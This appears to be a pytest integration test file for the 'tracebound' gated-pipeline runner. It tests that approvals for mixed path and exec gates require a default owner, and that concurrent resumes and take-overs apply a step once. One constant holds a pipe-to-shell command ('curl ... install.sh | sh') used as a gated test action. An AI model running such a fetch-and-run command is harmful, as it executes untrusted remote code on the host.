"""Two holes in the gated-run flow, each pinned against a real SQLite ledger file.

1. A gate whose reasons mix paths with a pathless one (an ``exec:`` action, a scope the
   policy does not allow) was approvable by the owner of the paths alone. The approver must
   own every path *and* be a default owner; the gate record says so itself
   (``GateRequested.repository_wide``, schema v2), and a v1 gate, which cannot say, is read
   as repository-wide (fail closed, docs/adr/0012).
2. Two ``resume``s of one approved run both ran the step's apply hook and both appended.
   A resume now claims the run (``RunResumed`` at the stream version it read) before any
   side effect; the loser raises :class:`RunAlreadyResumed` and runs nothing.

The races are driven by barriers and events, never by sleeps: each resumer has its own
Ledger and SQLite connection on the one ledger file, as two processes would.
"""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any, Literal

import pytest

from tests.integration.pipeline_kit import CODEOWNERS, POLICY, Kit, diff, tpc
from tracebound import FixedClock, Ledger, SequentialIds, SQLiteStore
from tracebound.errors import ConfigError, RunAlreadyResumed, RunTakenOver, TraceboundError
from tracebound.events.catalog import (
    ApprovalRecorded,
    GateRequested,
    RunFinished,
    RunResumed,
    StepRecorded,
)
from tracebound.events.envelope import Event, Payload
from tracebound.ids import RunId, StepId
from tracebound.pipeline.codeowners import CodeOwners, NotAnOwner
from tracebound.pipeline.policy import Policy
from tracebound.pipeline.redaction import Redactor
from tracebound.pipeline.runner import Runner, RunResult, approve, run_stream
from tracebound.pipeline.runtime import Pipeline, StepContext
from tracebound.replay import replay_run
from tracebound.store.blobs import FileBlobStore

EXEC = "exec:curl https://example.test/install.sh | sh"
# requirements.txt is owned by @alice and @bob; the repository (`*`) by @team-platform.
BOTH = "*  @team-platform\nrequirements.txt  @alice @team-platform\n"
WAIT = 60  # seconds a barrier or event waits before the test fails instead of hanging


@pytest.fixture
def kit(tmp_path: Path) -> Kit:
    return Kit(tmp_path)


def runner_on(
    kit: Kit,
    namespace: int,
    *,
    cls: type[Runner] = Runner,
    policy: dict[str, Any] = POLICY,
    codeowners: str = CODEOWNERS,
) -> Runner:
    """A Runner with its own Ledger and store connection on the kit's ledger file."""
    ledger = Ledger(
        SQLiteStore(kit.store_dir), clock=FixedClock(), ids=SequentialIds(namespace=namespace)
    )
    return cls(
        ledger,
        blobs=FileBlobStore(kit.root / "blobs"),
        policy=Policy.from_dict(policy),
        redactor=Redactor(b"test-redaction-key-0123"),
        codeowners=CodeOwners.parse(codeowners),
        workspace=kit.root,
    )


def payloads(runner: Runner, run_id: str) -> list[Payload]:
    return [e.payload for e in runner.ledger.store.read_stream(run_stream(run_id))]


def the_gate(runner: Runner, run_id: str) -> GateRequested:
    (gate,) = [p for p in payloads(runner, run_id) if isinstance(p, GateRequested)]
    return gate


def mixed_pipeline(*, actions: list[str]) -> Pipeline:
    pipe = Pipeline("mixed")
    pipe.planner(name="plan")(lambda ctx: tpc("Planner"))
    pipe.executor(name="execute")(
        lambda ctx: tpc("Executor", diffs=[diff("requirements.txt")], actions=actions)
    )
    return pipe


# -- 1. a gate with paths and a pathless reason -------------------------------------------

EXEC_GATED = {"sensitive_paths": ["requirements*.txt"], "untrusted_code_execution": True}
MIXED = [
    # the policy gates `exec:` actions: `untrusted_code_execution` names no path
    pytest.param({**POLICY, "gate": EXEC_GATED}, id="exec-action"),
    # the policy does not allow the `exec` scope the action asks for: no path either
    pytest.param(POLICY, id="scope-not-allowed"),
]


@pytest.mark.parametrize("policy", MIXED)
def test_the_path_owner_alone_cannot_approve_a_gate_that_also_names_no_path(
    kit: Kit, policy: dict[str, Any]
) -> None:
    runner = runner_on(kit, 1, policy=policy, codeowners=BOTH)
    with runner.ledger:
        result = runner.run(mixed_pipeline(actions=[EXEC]), {})
        assert (result.status, result.gated_step) == ("gated", "execute")
        run, step = RunId(result.run_id), StepId("execute")
        # @alice owns requirements.txt but not the repository: she may not let it run `sh`.
        with pytest.raises(NotAnOwner, match="default owners"):
            approve(runner.ledger, run, step, "@alice", codeowners=runner.codeowners)
        gate = the_gate(runner, result.run_id)
        assert gate.paths == ("requirements.txt",) and gate.repository_wide
        # Who may approve: the owners of every path who are default owners too.
        assert gate.owners == ("@team-platform",)
        record = approve(runner.ledger, run, step, "@Team-Platform", codeowners=runner.codeowners)
        assert record.decision == "approved"
        assert runner.resume(mixed_pipeline(actions=[EXEC]), result.run_id).status == "completed"


def test_when_no_one_owns_both_the_paths_and_the_repository_no_one_approves(kit: Kit) -> None:
    runner = runner_on(kit, 1)  # requirements.txt: @alice @bob; `*`: @team-platform
    with runner.ledger:
        result = runner.run(mixed_pipeline(actions=[EXEC]), {})
        gate = the_gate(runner, result.run_id)
        assert gate.owners == () and gate.repository_wide
        for who in ("@alice", "@bob", "@team-platform"):
            with pytest.raises(NotAnOwner):
                approve(runner.ledger, RunId(result.run_id), StepId("execute"), who,
                        codeowners=runner.codeowners)  # fmt: skip


def test_a_gate_on_paths_only_is_still_the_path_owners_call(kit: Kit) -> None:
    runner = runner_on(kit, 1)
    with runner.ledger:
        result = runner.run(mixed_pipeline(actions=["read the advisory"]), {})
        gate = the_gate(runner, result.run_id)
        assert not gate.repository_wide and gate.owners == ("@alice", "@bob")
        with pytest.raises(NotAnOwner):
            approve(runner.ledger, RunId(result.run_id), StepId("execute"), "@team-platform",
                    codeowners=runner.codeowners)  # fmt: skip
        approve(runner.ledger, RunId(result.run_id), StepId("execute"), "@bob",
                codeowners=runner.codeowners)  # fmt: skip


class GateRequestedV1(Payload):
    """GateRequested as tracebound wrote it before schema v2: not registered, only written,
    so the bytes it leaves are exactly those an older version left."""

    kind: Literal["gate_requested"] = "gate_requested"
    run_id: str
    step_id: str
    role: str
    reasons: tuple[str, ...]
    paths: tuple[str, ...] = ()
    owners: tuple[str, ...] = ()


def test_a_v1_gate_still_pending_is_read_as_repository_wide(kit: Kit, tmp_path: Path) -> None:
    """An old ledger verifies as it is (hashes are over the stored bytes), and its pending
    gate, which cannot say whether a reason named no path, needs a default owner too."""
    pipe = mixed_pipeline(actions=["read the advisory"])  # paths only, as far as v1 says
    current = runner_on(kit, 1)
    old = SQLiteStore(tmp_path / "old")
    with current.ledger:
        result = current.run(pipe, {})
        try:
            for e in current.ledger.store.read_log():  # the run as a v1 writer recorded it
                p = e.payload
                if isinstance(p, GateRequested):
                    p = GateRequestedV1(**p.model_dump(exclude={"kind", "repository_wide"}))
                old.append(e.stream_id, [Event.create(p, event_id=e.event_id,
                           timestamp=e.timestamp, workflow_id=e.workflow_id)])  # fmt: skip
        finally:
            old.close()
    ledger = Ledger(SQLiteStore(tmp_path / "old"), clock=FixedClock(), ids=SequentialIds(9))
    runner = Runner(
        ledger, blobs=FileBlobStore(kit.root / "blobs"), policy=Policy.from_dict(POLICY),
        redactor=Redactor(b"test-redaction-key-0123"), codeowners=CodeOwners.parse(BOTH),
        workspace=kit.root,
    )  # fmt: skip
    with ledger:
        (raw,) = [r for r in ledger.store.read_raw() if r.event_type == "gate_requested"]
        assert raw.schema_version == 1 and b"repository_wide" not in raw.body
        assert ledger.verify(require_signed=False).damage is None
        gate = the_gate(runner, result.run_id)
        assert gate.repository_wide and gate.paths == ("requirements.txt",)
        run, step = RunId(result.run_id), StepId("execute")
        with pytest.raises(NotAnOwner, match="default owners"):
            approve(ledger, run, step, "@alice", codeowners=runner.codeowners)
        approve(ledger, run, step, "@team-platform", codeowners=runner.codeowners)
        assert runner.resume(pipe, result.run_id).status == "completed"
        assert replay_run(ledger, runner.blobs, result.run_id).ok
        assert ledger.verify(require_signed=False).damage is None


# -- 2. two resumes of one run --------------------------------------------------------------


class Applied:
    """An apply hook that notes who ran it; the first caller can be held inside."""

    def __init__(self, *, hold: bool = False) -> None:
        self.by: list[str] = []
        self.hold = hold
        self.inside = threading.Event()
        self.release = threading.Event()
        self._lock = threading.Lock()

    def __call__(self, ctx: StepContext, artifact: object) -> None:
        with self._lock:
            self.by.append(threading.current_thread().name)
            first = len(self.by) == 1
        if self.hold and first:
            self.inside.set()
            self.release.wait(WAIT)


def gated_pipeline(applied: Applied) -> Pipeline:
    pipe = Pipeline("claimed")
    pipe.planner(name="plan")(lambda ctx: tpc("Planner"))
    pipe.executor(name="execute", apply=applied)(
        lambda ctx: tpc("Executor", diffs=[diff("requirements.txt")])
    )
    pipe.critic(name="review")(lambda ctx: tpc("Critic"))
    return pipe


def decided_run(kit: Kit, pipe: Pipeline, decision: Literal["approved", "rejected"]) -> str:
    runner = runner_on(kit, 1)
    with runner.ledger:
        result = runner.run(pipe, {})
        assert result.status == "gated"
        approve(runner.ledger, RunId(result.run_id), StepId("execute"), "@alice",
                codeowners=runner.codeowners, decision=decision)  # fmt: skip
    return result.run_id


def resume_in_thread(
    name: str, runner: Runner, pipe: Pipeline, run_id: str, out: dict[str, object]
) -> threading.Thread:
    def target() -> None:
        try:
            out[name] = runner.resume(pipe, run_id)
        except TraceboundError as exc:
            out[name] = exc

    thread = threading.Thread(target=target, name=name)
    thread.start()
    return thread


def two_loading_together(kit: Kit) -> dict[str, Runner]:
    """Runners "A" and "B", each with its own connection, that have both read the run's
    stream (the same version) before either goes on."""
    together = threading.Barrier(2, timeout=WAIT)

    class LoadsTogether(Runner):
        def _load(self, pipeline: Pipeline, run_id: str) -> Any:
            loaded = super()._load(pipeline, run_id)
            together.wait()
            return loaded

    return {n: runner_on(kit, 10 + i, cls=LoadsTogether) for i, n in enumerate("AB")}


def resume_all(
    runners: dict[str, Runner], pipe: Pipeline, run_id: str, by: dict[str, str | None]
) -> dict[str, object]:
    """Each runner resumes (or, with a name in ``by``, takes over) the run in its own thread,
    all at once; what each returned or raised, by runner name. Closes the runners' ledgers."""
    out: dict[str, object] = {}

    def target(name: str) -> None:
        try:
            out[name] = runners[name].resume(pipe, run_id, take_over_by=by[name])
        except TraceboundError as exc:
            out[name] = exc

    threads = [threading.Thread(target=target, args=(n,), name=n) for n in runners]
    try:
        for t in threads:
            t.start()
        for t in threads:
            t.join(WAIT)
    finally:
        for r in runners.values():
            r.ledger.close()
    return out


@pytest.mark.parametrize("decision", ["approved", "rejected"])
def test_two_resumers_that_read_the_run_together_finish_it_once(
    kit: Kit, decision: Literal["approved", "rejected"]
) -> None:
    applied = Applied()
    pipe = gated_pipeline(applied)
    run_id = decided_run(kit, pipe, decision)
    runners = two_loading_together(kit)
    out: dict[str, object] = {}
    try:
        for t in [resume_in_thread(n, r, pipe, run_id, out) for n, r in runners.items()]:
            t.join(WAIT)
    finally:
        for r in runners.values():
            r.ledger.close()

    finished = [n for n, v in out.items() if isinstance(v, RunResult)]
    refused = [v for v in out.values() if isinstance(v, RunAlreadyResumed)]
    assert len(finished) == 1 and len(refused) == 1, out
    (winner,) = finished
    assert applied.by == ([winner] if decision == "approved" else [])
    (error,) = refused
    assert run_id in str(error) and "execute" in str(error)
    with runner_on(kit, 99).ledger as ledger:
        stream = [e.payload for e in ledger.store.read_stream(run_stream(run_id))]
        assert ledger.verify(require_signed=False).damage is None
    claims = [p for p in stream if isinstance(p, RunResumed)]
    assert [(c.step_id, c.decision) for c in claims] == [("execute", decision)]
    ends = [p.status for p in stream if isinstance(p, RunFinished)]
    assert ends == ["gated", "completed" if decision == "approved" else "rejected"]
    # The claim comes right after the decision: nothing either resumer did precedes it.
    kinds = [p.kind for p in stream]
    assert kinds[kinds.index("approval_recorded") + 1] == "run_resumed"
    executed = [p.status for p in stream if isinstance(p, StepRecorded) and p.step_id == "execute"]
    assert executed == (["gated", "success"] if decision == "approved" else ["gated"])


def test_a_resume_that_starts_while_another_applies_runs_nothing(kit: Kit) -> None:
    applied = Applied(hold=True)
    pipe = gated_pipeline(applied)
    run_id = decided_run(kit, pipe, "approved")
    first, second = runner_on(kit, 10), runner_on(kit, 11)
    out: dict[str, object] = {}
    thread = resume_in_thread("first", first, pipe, run_id, out)
    try:
        assert applied.inside.wait(WAIT), out  # the first resumer is inside the apply hook
        before = second.ledger.store.stream_head(run_stream(run_id))
        with pytest.raises(RunAlreadyResumed, match="already resumed") as info:
            second.resume(pipe, run_id)
        assert second.ledger.store.stream_head(run_stream(run_id)) == before  # wrote nothing
        assert info.value.run_id == run_id and info.value.step_id == "execute"
    finally:
        applied.release.set()
        thread.join(WAIT)
        first.ledger.close()
        second.ledger.close()
    result = out["first"]
    assert isinstance(result, RunResult) and result.status == "completed", result
    assert applied.by == ["first"]


def test_a_finished_run_is_not_resumed_again_and_an_undecided_one_is_not_claimed(
    kit: Kit,
) -> None:
    applied = Applied()
    pipe = gated_pipeline(applied)
    runner = runner_on(kit, 1)
    with runner.ledger:
        result = runner.run(pipe, {})
        # Nobody decided yet: resume reports the gate and claims nothing.
        assert runner.resume(pipe, result.run_id).status == "gated"
        assert not [p for p in payloads(runner, result.run_id) if isinstance(p, RunResumed)]
        approve(runner.ledger, RunId(result.run_id), StepId("execute"), "@alice",
                codeowners=runner.codeowners)  # fmt: skip
        assert runner.resume(pipe, result.run_id).status == "completed"
        with pytest.raises(TraceboundError, match="not waiting at a gate"):
            runner.resume(pipe, result.run_id)
        kinds = [type(p) for p in payloads(runner, result.run_id)]
        assert kinds.count(RunResumed) == 1 and kinds.count(ApprovalRecorded) == 1
    assert len(applied.by) == 1


# -- 3. taking over a run whose claimant died ----------------------------------------------


class DiesInside(Applied):
    """An apply hook whose first caller dies inside it, as a killed process would: the
    claim is recorded, nothing after it."""

    def __call__(self, ctx: StepContext, artifact: object) -> None:
        super().__call__(ctx, artifact)
        if len(self.by) == 1:
            raise KeyboardInterrupt


def abandoned_run(kit: Kit, applied: Applied) -> tuple[Pipeline, str]:
    pipe = gated_pipeline(applied)
    run_id = decided_run(kit, pipe, "approved")
    dying = runner_on(kit, 5)
    with dying.ledger, pytest.raises(KeyboardInterrupt):
        dying.resume(pipe, run_id)
    return pipe, run_id


def test_a_run_whose_claimant_died_is_taken_over_by_a_named_human(kit: Kit) -> None:
    applied = DiesInside()
    pipe, run_id = abandoned_run(kit, applied)
    runner = runner_on(kit, 6)
    with runner.ledger:
        assert type(payloads(runner, run_id)[-1]) is RunResumed  # claimed, then nothing
        with pytest.raises(RunAlreadyResumed, match="--take-over"):
            runner.resume(pipe, run_id)
        result = runner.resume(pipe, run_id, take_over_by="@oncall")
        assert result.status == "completed"
        stream = payloads(runner, run_id)
        assert runner.ledger.verify(require_signed=False).damage is None
    claims = [p for p in stream if isinstance(p, RunResumed)]
    assert [c.taken_over_by for c in claims] == [None, "@oncall"]
    assert [p.status for p in stream if isinstance(p, RunFinished)] == ["gated", "completed"]
    assert len(applied.by) == 2  # the hook ran again: the dead claimant's run did not count


def test_a_take_over_needs_a_claim_to_take_over_and_a_name(kit: Kit) -> None:
    applied = Applied()
    pipe = gated_pipeline(applied)
    run_id = decided_run(kit, pipe, "approved")
    runner = runner_on(kit, 6)
    with runner.ledger:
        before = runner.ledger.store.stream_head(run_stream(run_id))
        with pytest.raises(TraceboundError, match="nothing to take over"):
            runner.resume(pipe, run_id, take_over_by="@oncall")
        with pytest.raises(TraceboundError, match="names the human"):
            runner.resume(pipe, run_id, take_over_by="  ")
        assert runner.ledger.store.stream_head(run_stream(run_id)) == before
    assert applied.by == []


def test_two_take_overs_at_once_finish_the_run_once(kit: Kit) -> None:
    applied = DiesInside()
    pipe, run_id = abandoned_run(kit, applied)
    runners = two_loading_together(kit)
    out = resume_all(runners, pipe, run_id, {n: f"@{n}" for n in runners})
    finished = [n for n, v in out.items() if isinstance(v, RunResult)]
    assert len(finished) == 1 and sum(isinstance(v, RunAlreadyResumed) for v in out.values()) == 1
    assert len(applied.by) == 2  # the dead claimant's, and the one take-over's
    with runner_on(kit, 99).ledger as ledger:
        claims = [
            e.payload.taken_over_by
            for e in ledger.store.read_stream(run_stream(run_id))
            if isinstance(e.payload, RunResumed)
        ]
    assert claims == [None, f"@{finished[0]}"]


def test_a_take_over_after_the_hook_applies_the_approved_artifact_not_a_new_one(
    kit: Kit,
) -> None:
    """The dead claimant got past the apply hook and died in a later step: the take-over
    starts again from the gate, with the artifact the human approved. The gated step's
    function is not called again (a fresh artifact was never approved)."""
    applied: list[tuple[str, ...]] = []
    calls: list[str] = []
    reviews: list[str] = []

    def execute(ctx: StepContext) -> dict[str, Any]:
        calls.append("execute")
        return tpc("Executor", diffs=[diff("requirements.txt")], actions=[f"bump #{len(calls)}"])

    def review(ctx: StepContext) -> dict[str, Any]:
        reviews.append("review")
        if len(reviews) == 1:
            raise KeyboardInterrupt  # the claimant dies here, after the hook and its record
        return tpc("Critic")

    pipe = Pipeline("claimed")
    pipe.planner(name="plan")(lambda ctx: tpc("Planner"))
    pipe.executor(name="execute", apply=lambda ctx, a: applied.append(tuple(a.actions)))(execute)
    pipe.critic(name="review")(review)
    run_id = decided_run(kit, pipe, "approved")
    dying = runner_on(kit, 5)
    with dying.ledger, pytest.raises(KeyboardInterrupt):
        dying.resume(pipe, run_id)
    runner = runner_on(kit, 6)
    with runner.ledger:
        result = runner.resume(pipe, run_id, take_over_by="@oncall")
        stream = payloads(runner, run_id)
    assert result.status == "completed"
    assert calls == ["execute"]  # called once, before the gate
    assert applied == [("bump #1",), ("bump #1",)]  # the approved artifact, both times
    recorded = [(p.step_id, p.status) for p in stream if isinstance(p, StepRecorded)]
    # the dead claimant's record of the hook stays in the ledger; the take-over adds its own
    assert recorded == [("plan", "success"), ("execute", "gated"), ("execute", "success"),
                        ("execute", "success"), ("review", "success")]  # fmt: skip
    assert [s.step_id for s in result.steps] == ["plan", "execute", "execute", "review"]


@pytest.mark.parametrize("other", ["take-over", "plain resume"])
def test_a_take_over_racing_another_resume_goes_on_alone(kit: Kit, other: str) -> None:
    applied = DiesInside()
    pipe, run_id = abandoned_run(kit, applied)
    runners = two_loading_together(kit)
    by = {"A": "@A", "B": "@B" if other == "take-over" else None}
    out = resume_all(runners, pipe, run_id, by)
    finished = [n for n, v in out.items() if isinstance(v, RunResult)]
    refused = [v for v in out.values() if isinstance(v, RunAlreadyResumed)]
    assert len(finished) == 1 and len(refused) == 1, out
    if other == "plain resume":
        assert finished == ["A"]  # a plain resume never takes a claimed run
    assert len(applied.by) == 2  # the dead claimant's, and the one take-over's
    with runner_on(kit, 99).ledger as ledger:
        claims = [
            e.payload.taken_over_by
            for e in ledger.store.read_stream(run_stream(run_id))
            if isinstance(e.payload, RunResumed)
        ]
    assert claims == [None, by[finished[0]]]
    if other == "take-over":  # the loser is told who took the run over
        assert f"taken over by {by[finished[0]]}" in str(refused[0])


def test_a_slow_claimant_stops_at_its_next_write_once_the_run_is_taken_over(kit: Kit) -> None:
    """The claimant was slow, not dead: held inside its apply hook while a human took the
    run over and finished it. Let go, it records nothing more: RunTakenOver at its next
    write, and the stream ends with the take-over's run."""
    applied = Applied(hold=True)
    pipe = gated_pipeline(applied)
    run_id = decided_run(kit, pipe, "approved")
    slow, oncall = runner_on(kit, 10), runner_on(kit, 11)
    out: dict[str, object] = {}
    thread = resume_in_thread("slow", slow, pipe, run_id, out)
    try:
        assert applied.inside.wait(WAIT), out
        result = oncall.resume(pipe, run_id, take_over_by="@oncall")
        assert result.status == "completed"
        head = oncall.ledger.store.stream_head(run_stream(run_id))
    finally:
        applied.release.set()
        thread.join(WAIT)
        slow.ledger.close()
    with oncall.ledger:
        error = out["slow"]
        assert isinstance(error, RunTakenOver), error
        assert error.run_id == run_id and error.by == "@oncall" and "position" in error.detail
        assert oncall.ledger.store.stream_head(run_stream(run_id)) == head  # nothing after
        stream = payloads(oncall, run_id)
        assert oncall.ledger.verify(require_signed=False).damage is None
    assert applied.by == ["slow", "MainThread"]
    claims = [p for p in stream if isinstance(p, RunResumed)]
    assert [c.taken_over_by for c in claims] == [None, "@oncall"]
    assert [p.status for p in stream if isinstance(p, RunFinished)] == ["gated", "completed"]
    executed = [p.status for p in stream if isinstance(p, StepRecorded) and p.step_id == "execute"]
    assert executed == ["gated", "success"]  # the slow claimant's step was never recorded


def test_an_approval_recorded_while_the_run_writes_is_read_past(kit: Kit) -> None:
    """A human approves the gate between gate_requested and the run's next events: the run
    reads past the decision instead of failing its own write."""
    applied = Applied()
    pipe = gated_pipeline(applied)

    class ApprovesAtTheGate(Runner):
        def _emit(self, run: Any, payload: Payload, **kw: Any) -> Any:
            recorded = super()._emit(run, payload, **kw)
            if isinstance(payload, GateRequested):
                with runner_on(kit, 50).ledger as ledger:
                    approve(ledger, run.run_id, payload.step_id, "@alice",
                            codeowners=self.codeowners)  # fmt: skip
            return recorded

    runner = runner_on(kit, 1, cls=ApprovesAtTheGate)
    with runner.ledger:
        first = runner.run(pipe, {})
        assert (first.status, first.gated_step) == ("gated", "execute")
        kinds = [p.kind for p in payloads(runner, first.run_id)]
        assert kinds[-4:] == [
            "gate_requested", "approval_recorded", "step_recorded", "run_finished",
        ]  # fmt: skip
        assert runner.resume(pipe, first.run_id).status == "completed"
        assert applied.by == ["MainThread"]


def test_a_run_id_already_in_the_ledger_is_refused(kit: Kit) -> None:
    pipe = gated_pipeline(Applied())
    runner = runner_on(kit, 1)
    with runner.ledger:
        first = runner.run(pipe, {})
        before = runner.ledger.store.stream_head(run_stream(first.run_id))
        with pytest.raises(ConfigError, match="already in this ledger"):
            runner.run(pipe, {}, run_id=first.run_id)
        assert runner.ledger.store.stream_head(run_stream(first.run_id)) == before


def test_a_resume_while_the_gating_process_still_writes_waits_for_it(kit: Kit) -> None:
    """A resumed run reaches a second gate (deploy): its gate is requested and its step
    recorded, but run_finished(gated) is not written yet. A fast approve + resume is
    refused (nothing written), although the first gate's run_finished(gated) is in the
    stream, and the gating process finishes its own writes undisturbed instead of meeting
    a claim it would take for a take-over (RunTakenOver)."""
    applied = Applied()
    pipe = gated_pipeline(applied)
    pipe.executor(name="deploy", apply=applied)(
        lambda ctx: tpc("Executor", diffs=[diff(".github/workflows/ci.yml")])
    )
    run_id = decided_run(kit, pipe, "approved")
    out: dict[str, object] = {}

    class SlowToFinish(Runner):
        def _emit(self, run: Any, payload: Payload, **kw: Any) -> Any:
            recorded = super()._emit(run, payload, **kw)
            if (
                isinstance(payload, StepRecorded)
                and payload.status == "gated"
                and (payload.step_id == "deploy")
            ):
                eager = runner_on(kit, 60)

                def approve_and_resume() -> None:
                    with eager.ledger:
                        approve(eager.ledger, run.run_id, payload.step_id, "@team-platform",
                                codeowners=eager.codeowners)  # fmt: skip
                        try:
                            out["eager"] = eager.resume(pipe, run.run_id)
                        except TraceboundError as exc:
                            out["eager"] = exc

                thread = threading.Thread(target=approve_and_resume, name="eager")
                thread.start()
                thread.join(WAIT)
            return recorded

    runner = runner_on(kit, 2, cls=SlowToFinish)
    with runner.ledger:
        second = runner.resume(pipe, run_id)  # no RunTakenOver
        assert (second.status, second.gated_step) == ("gated", "deploy")
        refused = out["eager"]
        assert isinstance(refused, ConfigError) and "still writing" in str(refused), refused
        claims = [p for p in payloads(runner, run_id) if isinstance(p, RunResumed)]
        assert len(claims) == 1 and payloads(runner, run_id)[-1].kind == "run_finished"
        assert runner.resume(pipe, run_id).status == "completed"
    assert applied.by == ["MainThread", "MainThread"]
